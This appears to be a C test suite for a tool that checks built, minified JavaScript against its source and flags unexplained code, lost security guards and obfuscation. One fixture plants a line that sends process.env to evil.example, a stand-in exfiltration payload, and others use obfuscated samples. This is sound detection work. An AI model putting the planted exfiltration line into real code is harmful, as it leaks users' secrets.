/*
 * match_script.c - tests of the rung for scripts: what is explained, what is left, and where.
 */
#include "match/script_index.h"

#include "match_fixture.h"

#include <stdio.h>
#include <string.h>

static const char source[] =
    "import { get } from './http'\n"
    "export interface Options { retries: number }\n"
    "const LIMIT = 60 * 1000\n"
    "export function load(name: string, options: Options) {\n"
    "  if (!name) throw new TypeError('a name is needed')\n"
    "  return get(`https://example.org/items/${name}?limit=${LIMIT}`, { method: 'GET', headers: { accept: "
    "'text/plain' } })\n"
    "    .then(answer => answer.json())\n"
    "    .then(items => items.filter(item => item.visible && item.owner === options.owner))\n"
    "}\n"
    "export class Store {\n"
    "  private _entries = new Map<string, string>()\n"
    "  remember(key: string, value: string) { this._entries.set(key, value); return this._entries.size }\n"
    "  forget(key: string) { this._entries.delete(key); console.warn('forgotten: ' + key) }\n"
    "}\n";
#define HEAD                                                                                                 \
    "\"use strict\";function g(e,t){if(!e)throw new TypeError(\"a name is needed\");return "                 \
    "n(\"https://example.org/items/\""                                                                       \
    ".concat(e,\"?limit=\").concat(6e4),{method:\"GET\",headers:{accept:\"text/"                             \
    "plain\"}}).then((function(e){return "                                                                   \
    "e.json()})).then((function(e){return e.filter((function(e){return e.visible&&e.owner===t.owner}))}))}"
#define TAIL                                                                                                 \
    "class S{constructor(){this._entries=new Map}remember(e,t){return "                                      \
    "this._entries.set(e,t),this._entries.size}"                                                             \
    "forget(e){this._entries.delete(e);console.warn(\"forgotten: \"+e)}}"

static struct pl_scripts *scripts;

static struct pl_file *run(const char *path, const char *text)
{
    struct pl_file *f = add_file(path, text);
    if (ix == NULL)
        add_source(0, "src/load.ts", source);
    apply("same.bytes", f);
    if (scripts == NULL)
        assert_int_equal(pl_scripts_new(ix, &limits, 1, &scripts, &err), PL_OK);
    with_scripts = scripts;
    apply("script.atoms", f);
    return f;
}

static int tear_down_scripts(void **state)
{
    pl_scripts_free(scripts);
    scripts = NULL;
    with_scripts = NULL;
    return tear_down(state);
}

static void a_minified_script_is_explained_to_its_last_byte(void **state)
{
    struct pl_file *f = run("dist/load.min.js", HEAD TAIL);
    assert_int_equal(f->script.novel + f->script.context, 0);
    assert_int_equal(pl_ledger_unclaimed(&f->ledger), 0);
    assert_string_equal(f->ledger.settled.v[0].rule, "script.atoms");
}

/* The ladder itself: the first file is small enough, and only the second meets the limit. */
static void a_script_with_too_many_tokens_is_opaque_and_says_so(void **state)
{
    struct pl_file *f = run("dist/load.min.js", HEAD TAIL);
    assert_int_equal(pl_ledger_unclaimed(&f->ledger), 0);
    limits.tokens = 20;
    struct pl_file *g = add_file("dist/again.min.js", HEAD TAIL "\n");
    g->kind = "javascript";
    for (enum pl_pass pass = PL_PASS_FILE; pass <= PL_PASS_PACKAGE; pass++)
        assert_int_equal(pl_match_file(&m, pass, g, &err), PL_OK);
    assert_int_equal(pl_ledger_unclaimed(&g->ledger), 0);
    assert_int_equal(g->ledger.settled.n, 1);
    assert_int_equal(g->ledger.settled.v[0].class, PL_CLASS_OPAQUE);
    assert_string_equal(g->ledger.settled.v[0].rule, "program.too-large");
    assert_int_equal(found(g, "archive.limit"), 1);
}

static void a_source_with_too_many_tokens_explains_nothing(void **state)
{
    limits.tokens = 20;
    struct pl_file *f = run("dist/load.min.js", "a(\"short enough\")");
    assert_int_equal(pl_ledger_unclaimed(&f->ledger), f->size);
    bool is_told = false;
    for (uint32_t unit = 0; unit < pl_index_unit_count(ix); unit++)
        is_told |= pl_scripts_left_out(scripts, unit);
    assert_true(is_told);
}

static void a_planted_statement_stays_and_nothing_else(void **state)
{
    static const char planted[] = "fetch(\"https://evil.example/\",{body:JSON.stringify(process.env)});";
    struct pl_file *f = run("dist/load.min.js",
                            HEAD "fetch(\"https://evil.example/\",{body:JSON.stringify(process.env)});" TAIL);
    assert_int_equal(f->script_runs.n, 1);
    assert_true(f->script_runs.v[0].offset >= sizeof HEAD - 1);
    assert_true(f->script_runs.v[0].offset + f->script_runs.v[0].length <= sizeof HEAD - 1 + sizeof planted);
    assert_true(f->script_runs.v[0].addresses > 0);
    assert_int_equal(f->script.explained,
                     f->script.atoms - f->script.novel - f->script.context - f->script.helper);
    uint64_t left = pl_ledger_unclaimed(&f->ledger);
    assert_true(left > 20 && left <= sizeof planted);
}

static void a_changed_letter_of_an_address_is_novel(void **state)
{
    struct pl_file *f =
        run("dist/load.min.js", "n(\"https://example.com/items/\".concat(e,\"?limit=\").concat(6e4),"
                                "{method:\"GET\",headers:{accept:\"text/plain\"}});" TAIL);
    assert_int_equal(f->script.novel, 1);
    assert_int_equal(f->script_runs.n, 1);
    assert_int_equal(f->script_runs.v[0].addresses, 1);
}

static void shortened_names_are_learnt_from_their_places(void **state)
{
    struct pl_file *f =
        run("dist/store.js",
            "class S{constructor(){this.q=new Map}remember(e,t){return this.q.set(e,t),this.q.size}"
            "forget(e){this.q.delete(e);console.warn(\"forgotten: \"+e)}}");
    assert_int_equal(f->script.novel, 0);
}

static void signs_alone_are_not_taken_on_trust(void **state)
{
    static char text[4096];
    size_t n = (size_t)snprintf(text, sizeof text, "%s", TAIL);
    while (n < 3500)
        n += (size_t)snprintf(text + n, sizeof text - n, "[+!+[]]+");
    (void)snprintf(text + n, sizeof text - n, "[];");
    struct pl_file *f = run("dist/store.js", text);
    assert_true(f->script_runs.n > 0);
    assert_true(f->script_runs.v[f->script_runs.n - 1].bare > 2000);
}

static void a_comment_of_unknown_words_is_not_explained(void **state)
{
    struct pl_file *f = run("dist/store.js", "/* options name */" TAIL "/* exfiltrate */");
    const struct pl_claim *last = &f->ledger.settled.v[f->ledger.settled.n - 1];
    assert_int_equal(f->ledger.settled.v[0].class, PL_CLASS_DERIVED);
    assert_string_equal(last->rule, "script.comment");
    assert_int_equal(last->class, PL_CLASS_UNACCOUNTED);
}

static void committed_output_explains_nothing(void **state)
{
    add_source(0, "dist/other.js",
               "module.exports = function () { return evilName.otherName('some value') }");
    struct pl_file *f = run("other.js", "x.exports=function(){return y.otherName(\"some value!\".slice(1))}");
    assert_int_equal(f->script.explained, 0);
}

#define CONSTANTS                                                                                            \
    "const NAME = '[a-z_:][a-z0-9:._-]*'\nconst TAG = '<' + '[A-Za-z]+' + '(?:\\\\s+' + NAME + ')*>'\n"      \
    "export const LINE = /&([a-z#][a-z0-9]{1,31});/\n"                                                       \
    "const SECONDS_A_DAY = 60 * 60 * 24\nconst WEEK = SECONDS_A_DAY * 7\nconst FLAGS = ~(1 << 5 | 1 << 7)\n" \
    "export function matches(text, options) { options.flags &= FLAGS; options.weeks = WEEK; "                \
    "return text.startsWith('&matches;') && new RegExp(TAG + LINE.source).exec(text) }\n"

static struct pl_file *run_folded(const char *number, const char *mask, const char *text)
{
    char built[1024];
    (void)snprintf(
        built, sizeof built,
        "exports.matches=function(t,o){return o.flags&=%s,o.weeks=%s,t.startsWith(\"&matches;\")&&new "
        "RegExp(\"%s\").exec(t)}",
        mask, number, text);
    add_source(0, "src/fold.js", CONSTANTS);
    return run("dist/fold.js", built);
}

#define FOLDED "<[A-Za-z]+(?:\\\\s+[a-z_:][a-z0-9:._-]*)*>&([a-z#][a-z0-9]{1,31});"

static void what_a_minifier_works_out_is_explained(void **state)
{
    struct pl_file *f = run_folded("604800", "-161", FOLDED);
    assert_int_equal(f->script.novel + f->script.context, 0);
    assert_int_equal(pl_ledger_unclaimed(&f->ledger), 0);
}

static void another_number_than_the_worked_out_one_is_novel(void **state)
{
    assert_int_equal(run_folded("604801", "-161", FOLDED)->script.novel, 1);
}

static void a_word_spelled_from_scraps_is_novel(void **state)
{
    struct pl_file *f = run_folded("604800", "-161", "<[A-Za-z]+evil)*>");
    assert_int_equal(f->script.novel, 1);
}

/* Novel atoms of a text that is so many times the name of the constants. */
static uint64_t novel_of_pieces(unsigned n)
{
    char text[768] = "";
    for (unsigned i = 0; i < n; i++)
        (void)snprintf(text + strlen(text), sizeof text - strlen(text), "%s", "[a-z_:][a-z0-9:._-]*");
    return run_folded("604800", "-161", text)->script.novel;
}

/* Who may put together as many as he likes may spell anything. */
static void a_text_of_more_than_32_pieces_is_novel(void **state)
{
    assert_int_equal(novel_of_pieces(33), 1);
}

static void a_text_of_32_pieces_is_explained(void **state)
{
    assert_int_equal(novel_of_pieces(32), 0);
}

static void a_text_of_three_atoms_is_found_as_a_whole(void **state)
{
    for (int i = 0; i < 80; i++) /* so that each of its atoms is common */
        add_source(0, i == 0 ? "src/warn.js" : "src/other.js",
                   i == 0 ? "export function warn(text) { console.warn(`[App warn] ${text}`) }"
                          : "console.warn(one); stop.warn = console; warn.list = console.warn.stop");
    struct pl_file *f = run("dist/app.js", "function w(e){console.warn(`[App warn] ${e}`)}" HEAD);
    assert_int_equal(f->script.novel + f->script.context, 0);
    struct pl_file *g = run("dist/app2.js", "function w(e){console.warn(`[App won] ${e}`)}" HEAD);
    assert_int_equal(g->script.novel, 1);
}

static void the_text_of_the_whole_name_is_looked_into_first(void **state)
{
    add_source(0, "index.js",
               "export let id = size => { while (size--) { one += crypto.randomBytes(size).list } }");
    add_source(
        0, "index.browser.js",
        "export let id = size => { while (size--) { one += crypto.randomBytes(size).list; one &= 63 } }");
    struct pl_file *f =
        run("index.browser.js", "let i=e=>{for(;e--;)o+=crypto.randomBytes(e).list,o&=63};exports.id=i;");
    assert_int_equal(f->script.context + f->script.novel, 0);
}

static void states_of_a_generator_explain_no_long_list_of_numbers(void **state)
{
    struct pl_file *f =
        run("dist/store.js", "__generator;x=[114,101,113,117,105,114,101,40,39,104,116,116,112,39,41];" TAIL);
    assert_true(f->script.context + f->script.novel > 10);
}

#define KEEPER                                                                                               \
    "import { isOpen } from './doors'\n"                                                                     \
    "export function load(store, name, user) {\n"                                                            \
    "  const item = store.lookup(name).newest\n"                                                             \
    "  %s\n"                                                                                                 \
    "  audit.record(item.identity, user.address)\n"                                                          \
    "  return item.content.toString('utf8')\n"                                                               \
    "}\n"
#define KEEPER_BUILT                                                                                         \
    "function l(a,b,c){const d=a.lookup(b).newest;%sreturn "                                                 \
    "audit.record(d.identity,c.address),d.content.toString(\"utf8\")}"

/* How many lost guards are told when `source` stands in the source and `built` in the package. */
static size_t lost_guards(const char *source_guard, const char *built)
{
    char text[1024];
    char package[1024];
    size_t n = 0;
    (void)snprintf(text, sizeof text, KEEPER, source_guard);
    (void)snprintf(package, sizeof package, KEEPER_BUILT, built);
    add_source(0, "src/keeper.js", text);
    struct pl_file *f = run("dist/keeper.js", package);
    for (size_t i = 0; i < f->findings.list.n; i++)
        n += strcmp(f->findings.list.v[i].tag, "script.lost-guard") == 0;
    return n;
}

static void a_guard_that_the_build_lost_is_told(void **state)
{
    assert_int_equal(lost_guards("if (item.owner !== user.identity) throw new Denied('not yours')", ""), 1);
}

static void an_assertion_that_the_build_lost_is_told(void **state)
{
    assert_int_equal(lost_guards("assert(item.signature.matches(user.key), 'forged')", ""), 1);
}

static void a_guard_that_is_there_is_not_told(void **state)
{
    assert_int_equal(lost_guards("if (item.owner !== user.identity) throw new Denied('not yours')",
                                 "if(d.owner!==c.identity)throw new D(\"not yours\");"),
                     0);
}

static void a_guard_of_a_function_that_is_not_there_is_not_told(void **state)
{
    assert_int_equal(
        lost_guards("function other(x) { if (x.owner !== user.identity) throw new Denied('no') }", ""), 0);
}

static void a_guard_that_asks_for_a_build_mode_is_not_told(void **state)
{
    assert_int_equal(
        lost_guards("if (process.env.NODE_ENV !== 'production' && !item.owner) throw new Denied('no')", ""),
        0);
}

static void a_guard_of_names_that_bundlers_rename_is_not_told(void **state)
{
    assert_int_equal(lost_guards("if (!isOpen(item)) return item", ""), 0);
}

/* The source's program imports "http", which could not be had, and the built file has `statements` that no source has. */
static struct pl_file *run_without_http(const char *before, unsigned statements)
{
    static char text[32768];
    size_t n = (size_t)snprintf(text, sizeof text, "%s%s", before, HEAD);
    for (unsigned i = 0; i < statements; i++)
        n += (size_t)snprintf(text + n, sizeof text - n, "o.zork%u(\"quux number %u\",process.env);", i, i);
    (void)snprintf(text + n, sizeof text - n, "%s", TAIL);
    add_source(0, "src/load.ts", source);
    trees[0]->files.v[trees[0]->files.n - 1].imports_missing = "http 1.0.0";
    trees[1]->name = "http 1.0.0";
    trees[1]->missing = "the registry has it not";
    assert_int_equal(pl_index_build(trees, 2, 1, &ix, &err), PL_OK);
    return run("dist/load.js", text);
}

static void assert_missing(const struct pl_file *f, bool is_expected)
{
    assert_true(f->script_runs.n > 0);
    for (size_t i = 0; i < f->script_runs.n; i++)
        assert_int_equal(f->script_runs.v[i].missing.n > 0, is_expected);
}

static void a_stretch_as_large_as_a_module_may_be_of_the_missing_source(void **state)
{
    assert_missing(run_without_http("", 80), true);
}

static void a_planted_statement_is_of_no_missing_source(void **state)
{
    assert_missing(run_without_http("", 6), false);
}

static void a_file_that_imports_the_missing_source_does_not_hold_it(void **state)
{
    assert_missing(run_without_http("import{get as n}from\"http\";", 80), false);
}

/* esbuild names modules by their path. */
static void a_method_called_like_a_file_of_the_source_is_no_news(void **state)
{
    struct pl_file *f =
        run("dist/a.js", HEAD "var r=x({\"src/load.ts\"(e){" TAIL "}});y({\"src/other.ts\"(e){" TAIL "}})");
    assert_int_equal(f->script.novel, 1);
    assert_true(pl_bytes_starts(f->script_runs.v[0].sample, PL_LIT("\"src/other.ts\"")));
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test_setup_teardown(a_stretch_as_large_as_a_module_may_be_of_the_missing_source, set_up,
                                        tear_down_scripts),
        cmocka_unit_test_setup_teardown(a_planted_statement_is_of_no_missing_source, set_up,
                                        tear_down_scripts),
        cmocka_unit_test_setup_teardown(a_file_that_imports_the_missing_source_does_not_hold_it, set_up,
                                        tear_down_scripts),
        cmocka_unit_test_setup_teardown(a_method_called_like_a_file_of_the_source_is_no_news, set_up,
                                        tear_down_scripts),
        cmocka_unit_test_setup_teardown(a_guard_that_the_build_lost_is_told, set_up, tear_down_scripts),
        cmocka_unit_test_setup_teardown(an_assertion_that_the_build_lost_is_told, set_up, tear_down_scripts),
        cmocka_unit_test_setup_teardown(a_guard_that_is_there_is_not_told, set_up, tear_down_scripts),
        cmocka_unit_test_setup_teardown(a_guard_of_a_function_that_is_not_there_is_not_told, set_up,
                                        tear_down_scripts),
        cmocka_unit_test_setup_teardown(a_guard_that_asks_for_a_build_mode_is_not_told, set_up,
                                        tear_down_scripts),
        cmocka_unit_test_setup_teardown(a_guard_of_names_that_bundlers_rename_is_not_told, set_up,
                                        tear_down_scripts),
        cmocka_unit_test_setup_teardown(what_a_minifier_works_out_is_explained, set_up, tear_down_scripts),
        cmocka_unit_test_setup_teardown(another_number_than_the_worked_out_one_is_novel, set_up,
                                        tear_down_scripts),
        cmocka_unit_test_setup_teardown(a_word_spelled_from_scraps_is_novel, set_up, tear_down_scripts),
        cmocka_unit_test_setup_teardown(a_text_of_more_than_32_pieces_is_novel, set_up, tear_down_scripts),
        cmocka_unit_test_setup_teardown(a_text_of_32_pieces_is_explained, set_up, tear_down_scripts),
        cmocka_unit_test_setup_teardown(a_text_of_three_atoms_is_found_as_a_whole, set_up, tear_down_scripts),
        cmocka_unit_test_setup_teardown(the_text_of_the_whole_name_is_looked_into_first, set_up,
                                        tear_down_scripts),
        cmocka_unit_test_setup_teardown(states_of_a_generator_explain_no_long_list_of_numbers, set_up,
                                        tear_down_scripts),
        cmocka_unit_test_setup_teardown(a_minified_script_is_explained_to_its_last_byte, set_up,
                                        tear_down_scripts),
        cmocka_unit_test_setup_teardown(a_script_with_too_many_tokens_is_opaque_and_says_so, set_up,
                                        tear_down_scripts),
        cmocka_unit_test_setup_teardown(a_source_with_too_many_tokens_explains_nothing, set_up,
                                        tear_down_scripts),
        cmocka_unit_test_setup_teardown(a_planted_statement_stays_and_nothing_else, set_up,
                                        tear_down_scripts),
        cmocka_unit_test_setup_teardown(a_changed_letter_of_an_address_is_novel, set_up, tear_down_scripts),
        cmocka_unit_test_setup_teardown(shortened_names_are_learnt_from_their_places, set_up,
                                        tear_down_scripts),
        cmocka_unit_test_setup_teardown(signs_alone_are_not_taken_on_trust, set_up, tear_down_scripts),
        cmocka_unit_test_setup_teardown(a_comment_of_unknown_words_is_not_explained, set_up,
                                        tear_down_scripts),
        cmocka_unit_test_setup_teardown(committed_output_explains_nothing, set_up, tear_down_scripts),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
